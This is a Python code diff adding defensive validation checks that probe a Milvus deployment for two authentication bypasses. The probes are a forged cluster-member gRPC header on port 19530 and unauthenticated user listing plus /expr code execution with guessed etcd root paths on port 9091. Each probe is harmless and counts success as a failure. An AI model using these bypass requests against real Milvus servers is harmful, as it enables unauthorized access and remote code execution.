@@ -3,28 +3,40 @@
 So do the known ways around authentication, for each user and for nobody. It comes last, since whatever succeeds may take the collection of
 this very run with it. A success is FAIL, whatever the profile promises. Nothing is tried on what this run did not make
 but reading. A port that does not answer from here is named as not tried.
+
+Each way around is one harmless request: names of users, or a sum; no answer is kept. CVE-2025-64513: on port 19530 a call that claims to
+come from a member of the cluster is let in as whoever it names. CVE-2026-26190: on port 9091 the REST interface lets everybody in, and
+/expr runs code for whoever knows the root path of etcd.
 """
 
+from base64 import b64encode
 from collections.abc import Callable, Iterable, Iterator
 from contextlib import closing
 from functools import partial
 from itertools import product
 from typing import Any
+from urllib.parse import urlsplit
 
 import grpc
+import httpx
 from pymilvus import MilvusException  # type: ignore[import-untyped]  # pymilvus ships no types
+from pymilvus.grpc_gen import milvus_pb2, milvus_pb2_grpc  # type: ignore[import-untyped]
 
 from validation.checks.context import GATE, Loaded, RunContext
 from validation.checks.registry import Check
-from validation.clients import doors
 from validation.clients.login import Login
 from validation.clients.milvus import VectorStore
-from validation.clients.milvus_connection import log_in
+from validation.clients.milvus_connection import Tls, log_in
 from validation.judge.errors import InvalidRunError
 from validation.judge.measures import invariant
 from validation.run.record import Facts
 
-_TIMEOUT_S = 10.0
+METRICS_PORT = 9091
+_TIMEOUT_S, _BYPASS_TIMEOUT_S = 10.0, 5.0
+_MEMBER = (("sourceid", b64encode(b"@@milvus-member@@").decode()),)
+_ROOT_PATHS = ("by-dev", "milvus")  # Milvus's own default, and a usual choice
+_SUM, _TOTAL = "1234 * 5678", "7006652"
+_REFUSED = {grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.PERMISSION_DENIED}
 _DENIED, _SUCCEEDED, _NOT_TRIED = "denied", "SUCCEEDED", "not tried: "
 _KNOWN = "(CVE-"
 _CLOSE = "a version with the fix (docs/security.md, S1 and S2), and port 9091 reached by Prometheus alone"
@@ -106,13 +118,13 @@ def bypasses(store: VectorStore) -> Iterator[Attempt]:
     uri, tls, logins = store.uri, store.tls, store.logins
     users = {"searches": logins.search(), "ingests": logins.ingest(), "administers": logins.admin()}
     who = {"nobody": Login(user="root")} | {f"the user that {work}": login for work, login in users.items()}
-    yield "nobody listed the users on port 19530", partial(doors.users_listed, uri, tls, Login(), as_member=False)
+    yield "nobody listed the users on port 19530", partial(users_listed, uri, tls, Login(), as_member=False)
     for name, login in who.items():
         claim = f"{name}, by the claim to be a member of the cluster, listed the users on port 19530 (CVE-2025-64513)"
-        yield claim, partial(doors.users_listed, uri, tls, login, as_member=True)
+        yield claim, partial(users_listed, uri, tls, login, as_member=True)
         rest = f"{name} listed the users on port 9091 (CVE-2026-26190)"
-        yield rest, partial(doors.users_listed_by_rest, uri, login if login.password else Login())
-    yield "nobody ran an expression on port 9091 (CVE-2026-26190)", partial(doors.expression_run, uri)
+        yield rest, partial(users_listed_by_rest, uri, login if login.password else Login())
+    yield "nobody ran an expression on port 9091 (CVE-2026-26190)", partial(expression_run, uri)
 
 
 def by_the_way_around(attempt: Callable[[], bool]) -> str:
@@ -121,3 +133,40 @@ def by_the_way_around(attempt: Callable[[], bool]) -> str:
         return _SUCCEEDED if attempt() else _DENIED
     except OSError as error:
         return f"{_NOT_TRIED}{error}"
+
+
+def users_listed(uri: str, tls: Tls, login: Login, *, as_member: bool) -> bool:
+    """Whether port 19530 lists the users of Milvus."""
+    metadata = (*login.metadata(), *(_MEMBER if as_member else ()))
+    with tls.channel(uri) as channel:
+        try:
+            stub = milvus_pb2_grpc.MilvusServiceStub(channel)
+            answer: Any = stub.ListCredUsers(milvus_pb2.ListCredUsersRequest(), metadata=metadata, timeout=_BYPASS_TIMEOUT_S)
+        except grpc.RpcError as error:
+            if isinstance(error, grpc.Call) and error.code() in _REFUSED:
+                return False
+            raise OSError(error.details() if isinstance(error, grpc.Call) else error) from error
+    return bool(answer.usernames)
+
+
+def users_listed_by_rest(uri: str, login: Login) -> bool:
+    """Whether port 9091 lists the users of Milvus."""
+    if login.user and uri.startswith("https://"):
+        raise OSError(f"port {METRICS_PORT} has no TLS, and would be sent a password in plain text")
+    answer = _get(uri, "/api/v1/credential/users", auth=httpx.BasicAuth(login.user, login.password) if login.user else None)
+    return answer.is_success and '"usernames"' in answer.text
+
+
+def expression_run(uri: str) -> bool:
+    """Whether /expr on port 9091 adds up for somebody who only guesses."""
+    answers = (_get(uri, "/expr", {"auth": path, "code": _SUM}) for path in _ROOT_PATHS)
+    return any(answer.is_success and _TOTAL in answer.text for answer in answers)
+
+
+def _get(uri: str, path: str, query: dict[str, str] | None = None, auth: httpx.BasicAuth | None = None) -> httpx.Response:
+    host = urlsplit(uri).hostname or ""
+    url = httpx.URL(scheme="http", host=host, port=METRICS_PORT, path=path, params=query)
+    try:
+        return httpx.get(url, auth=auth, timeout=_BYPASS_TIMEOUT_S, trust_env=False)
+    except httpx.TransportError as error:
+        raise OSError(f"port {METRICS_PORT} of {host} does not answer: {error}") from error
